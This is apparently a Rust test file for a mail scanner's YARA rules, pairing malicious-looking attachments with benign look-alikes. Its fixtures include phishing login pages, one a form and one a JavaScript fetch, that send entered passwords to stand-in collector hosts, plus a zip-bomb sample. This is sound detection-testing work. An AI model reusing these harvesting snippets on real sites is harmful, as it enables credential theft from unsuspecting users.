//! The shipped YARA rules: each has a case it must catch and a look-alike it must leave alone.
//! Content scanners only (no clamd), so each verdict is the rules' own.

use crate::common::{mail, shared_corpus, test_config};
use canhgac::{Engine, ScanInput};

fn symbols(raw: &[u8]) -> Vec<String> {
    let engine = Engine::build(&test_config()).expect("engine");
    let r = engine.scan_content_verdict(&ScanInput::from_bytes(raw.to_vec()));
    r.verdict.findings.iter().map(|f| f.symbol.clone()).collect()
}

fn minimal_pe() -> Vec<u8> {
    let mut pe = vec![0u8; 256];
    pe[0] = b'M';
    pe[1] = b'Z';
    pe[0x3C] = 0x80;
    pe[0x80..0x84].copy_from_slice(b"PE\0\0");
    pe[0x84] = 0x4C;
    pe[0x85] = 0x01;
    pe
}

fn minimal_elf() -> Vec<u8> {
    let mut elf = vec![0u8; 128];
    elf[..7].copy_from_slice(b"\x7fELF\x02\x01\x01");
    elf
}

/// An OLE compound file header followed by a VBA project stream name (UTF-16).
fn ole_with_vba() -> Vec<u8> {
    let mut d = vec![0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1];
    d.resize(512, 0);
    for c in "_VBA_PROJECT".encode_utf16() {
        d.extend_from_slice(&c.to_le_bytes());
    }
    d.resize(2048, 0);
    d
}

fn ole_without_vba() -> Vec<u8> {
    let mut d = vec![0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1];
    d.resize(512, 0);
    for c in "WordDocument".encode_utf16() {
        d.extend_from_slice(&c.to_le_bytes());
    }
    d.resize(2048, 0);
    d
}

/// An Outlook message (.msg) with one attachment, as Outlook saves it (MS-OXMSG streams).
fn outlook_msg(name: &str, data: &[u8]) -> Vec<u8> {
    use std::io::Write as _;
    let utf16 = |s: &str| s.encode_utf16().flat_map(u16::to_le_bytes).collect::<Vec<u8>>();
    let mut cf = cfb::CompoundFile::create(std::io::Cursor::new(Vec::new())).expect("create");
    cf.create_stream("/__substg1.0_0037001F")
        .expect("stream")
        .write_all(&utf16("Chuyển tiếp"))
        .expect("write");
    cf.create_storage("/__attach_version1.0_#00000000")
        .expect("storage");
    for (stream, bytes) in [
        ("__substg1.0_37010102", data.to_vec()),
        ("__substg1.0_3707001F", utf16(name)),
    ] {
        cf.create_stream(format!("/__attach_version1.0_#00000000/{stream}"))
            .expect("stream")
            .write_all(&bytes)
            .expect("write");
    }
    cf.flush().expect("flush");
    cf.into_inner().into_inner()
}

#[test]
fn each_rule_catches_its_case_and_not_the_look_alike() {
    let pdf = b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\n%%EOF\n".to_vec();
    let docx = mail::zip(&[
        ("[Content_Types].xml", b"<Types/>"),
        ("word/document.xml", b"<w:document/>"),
    ]);
    let docm = mail::zip(&[
        ("[Content_Types].xml", b"<Types/>"),
        ("word/vbaProject.bin", &ole_with_vba()),
    ]);
    let phish = br#"<!DOCTYPE html><html><body><h3>Webmail Lam Dong</h3>
<form method="post" action="https://login-lamdong.example.net/collect.php">
<input type="text" name="u"><input type="password" name="p"><button>Dang nhap</button></form></body></html>"#;
    let phish_js = br#"<html><body><input id=p type='password'><script>
document.querySelector('button').onclick=function(){fetch('https://collector.example.org/x',{method:'POST',body:document.getElementById('p').value})}
</script><button>OK</button></body></html>"#;
    let newsletter = br#"<html><body><p>Ban tin so 12</p><form action="search"><input type="text" name="q"></form></body></html>"#;
    let local_login =
        br#"<html><body><form action="/login"><input type="password" name="p"></form></body></html>"#;
    let pe = minimal_pe();
    let elf = minimal_elf();
    let elf_like_text = b"\x7fELF is how an executable starts; this is a text note about it.".to_vec();
    let exe_in_zip = mail::zip(&[("setup.exe", &pe)]);
    // Messages attached as files: an .eml sent as a plain file, one inside a zip, an Outlook .msg.
    let eml_with_exe = mail::with_files("fwd", &[("cai-dat.exe", "application/octet-stream", &pe)]);
    let eml_with_pdf = mail::with_files("fwd", &[("cong-van.pdf", "application/pdf", &pdf)]);
    let eml_in_zip = mail::zip(&[("thu.eml", &eml_with_exe)]);
    // (rule symbol, message that must match, message that must not)
    let cases: Vec<(&str, Vec<u8>, Vec<u8>)> = vec![
        (
            "YARA_EXECUTABLE_PE",
            mail::with_files("pe", &[("cai-dat.exe", "application/octet-stream", &pe)]),
            mail::with_files("pdf", &[("cong-van.pdf", "application/pdf", &pdf)]),
        ),
        (
            "YARA_EXECUTABLE_PE",
            mail::with_files("pe in zip", &[("phan-mem.zip", "application/zip", &exe_in_zip)]),
            mail::with_files("docx", &[("bao-cao.docx", "application/zip", &docx)]),
        ),
        (
            "YARA_EXECUTABLE_PE",
            mail::with_files(
                "eml",
                &[("thu-chuyen-tiep.eml", "application/octet-stream", &eml_with_exe)],
            ),
            mail::with_files(
                "eml",
                &[("thu-chuyen-tiep.eml", "application/octet-stream", &eml_with_pdf)],
            ),
        ),
        (
            "YARA_EXECUTABLE_PE",
            mail::with_files("eml in zip", &[("thu.zip", "application/zip", &eml_in_zip)]),
            mail::with_files(
                "msg",
                &[(
                    "thu.msg",
                    "application/vnd.ms-outlook",
                    &outlook_msg("cong-van.pdf", &pdf),
                )],
            ),
        ),
        (
            "YARA_EXECUTABLE_PE",
            mail::with_files(
                "msg",
                &[(
                    "thu.msg",
                    "application/octet-stream",
                    &outlook_msg("setup.exe", &pe),
                )],
            ),
            mail::with_files("pdf", &[("cong-van.pdf", "application/pdf", &pdf)]),
        ),
        (
            "YARA_EXECUTABLE_ELF",
            mail::with_files("elf", &[("tool", "application/octet-stream", &elf)]),
            mail::with_files("elf text", &[("note.txt", "text/plain", &elf_like_text)]),
        ),
        (
            "YARA_DOUBLE_EXTENSION",
            mail::with_files(
                "double",
                &[("bao-cao.pdf.exe", "application/octet-stream", b"harmless bytes")],
            ),
            mail::with_files("single", &[("bao-cao.2026.pdf", "application/pdf", &pdf)]),
        ),
        (
            "YARA_OFFICE_VBA_MACROS",
            mail::with_files("docm", &[("to-trinh.docm", "application/octet-stream", &docm)]),
            mail::with_files("docx", &[("to-trinh.docx", "application/octet-stream", &docx)]),
        ),
        (
            "YARA_OFFICE_VBA_MACROS",
            mail::with_files("doc", &[("to-trinh.doc", "application/msword", &ole_with_vba())]),
            mail::with_files(
                "doc",
                &[("to-trinh.doc", "application/msword", &ole_without_vba())],
            ),
        ),
        (
            "YARA_HTML_CREDENTIAL_PHISH",
            mail::with_files("phish", &[("hop-thu.html", "text/html", phish)]),
            mail::with_files("newsletter", &[("ban-tin.html", "text/html", newsletter)]),
        ),
        (
            "YARA_HTML_CREDENTIAL_PHISH",
            mail::with_files("phish js", &[("xac-minh.htm", "text/html", phish_js)]),
            mail::with_files("local login", &[("dang-nhap.html", "text/html", local_login)]),
        ),
    ];
    for (symbol, hit, miss) in cases {
        let got = symbols(&hit);
        assert!(got.iter().any(|s| s == symbol), "{symbol} must match: {got:?}");
        let got = symbols(&miss);
        assert!(
            !got.iter().any(|s| s.starts_with("YARA_")),
            "{symbol}: look-alike must not match: {got:?}"
        );
    }
}

#[test]
fn executables_are_refused_with_554() {
    let engine = Engine::build(&test_config()).expect("engine");
    let raw = mail::with_files(
        "pe",
        &[("hoa-don.pdf.exe", "application/octet-stream", &minimal_pe())],
    );
    let r = engine.scan_content_verdict(&ScanInput::from_bytes(raw));
    let reply = r.verdict.reply.expect("refused");
    assert_eq!((reply.code, reply.status.as_str()), (554, "5.7.1"), "{reply}");
}

#[test]
fn macro_samples_of_the_shared_corpus() {
    let dir = shared_corpus().join("mime-testsuites/spamassassin-t-data/spam/olevbmacro");
    for (file, want) in [
        ("macro.eml", Some("YARA_OFFICE_VBA_MACROS")),
        ("malicemacro.eml", Some("YARA_OFFICE_VBA_MACROS")),
        ("renamedmacro.eml", Some("YARA_OFFICE_VBA_MACROS")),
        ("nomacro.eml", None),
        ("goodcsv.eml", None),
        // An encrypted zip whose body says «Password: sa»: opened with it, as SpamAssassin's
        // OLEVBMacro plugin does, and the workbook's macros found.
        ("zippwmacro.eml", Some("YARA_OFFICE_VBA_MACROS")),
        ("zippwmacro.eml", Some("PASSWORD_IN_MESSAGE")),
    ] {
        let raw = std::fs::read(dir.join(file)).expect("read");
        let got = symbols(&raw);
        match want {
            Some(s) => assert!(got.iter().any(|g| g == s), "{file}: want {s}, got {got:?}"),
            None => assert!(!got.iter().any(|g| g.starts_with("YARA_")), "{file}: {got:?}"),
        }
    }
}

#[test]
fn macros_in_an_office_document_saved_with_the_message_password_are_found() {
    // A .docm saved with a password (Agile): its vbaProject.bin part is seen once the body's
    // password opens it; without the password the document is held unread.
    let package = canhgac::mime_out::zip_of(&[
        ("[Content_Types].xml", b"<Types/>".as_slice()),
        ("word/document.xml", b"<w:document/>".as_slice()),
        ("word/vbaProject.bin", ole_with_vba().as_slice()),
    ]);
    let docm = msoffice_crypto::encrypt_ooxml(&package, "Vb-2026").expect("encrypt");
    let raw = |text: &str| {
        let m = mail::with_files(
            "Bao cao",
            &[(
                "bao-cao.docm",
                "application/vnd.ms-word.document.macroEnabled.12",
                &docm,
            )],
        );
        String::from_utf8_lossy(&m)
            .replace("Tài liệu đính kèm.", text)
            .into_bytes()
    };
    let got = symbols(&raw("Mật khẩu: Vb-2026"));
    for want in ["YARA_OFFICE_VBA_MACROS", "PASSWORD_IN_MESSAGE"] {
        assert!(got.iter().any(|g| g == want), "want {want}, got {got:?}");
    }
    let got = symbols(&raw("Gửi anh."));
    assert!(!got.iter().any(|g| g.starts_with("YARA_")), "{got:?}");
    assert!(got.iter().any(|g| g == "MARKING_UNSCANNABLE"), "{got:?}");
}

#[test]
fn archive_bomb_is_refused() {
    let zeros = vec![0u8; 40 * 1024 * 1024];
    let bomb = mail::zip(&[("zeros.bin", &zeros)]);
    let raw = mail::with_files("bomb", &[("bom.zip", "application/zip", &bomb)]);
    let engine = Engine::build(&test_config()).expect("engine");
    let r = engine.scan_content_verdict(&ScanInput::from_bytes(raw));
    assert!(
        r.verdict.findings.iter().any(|f| f.symbol == "ARCHIVE_BOMB"),
        "{:?}",
        r.verdict
    );
    assert_eq!(r.verdict.reply.map(|r| r.code), Some(554));
}
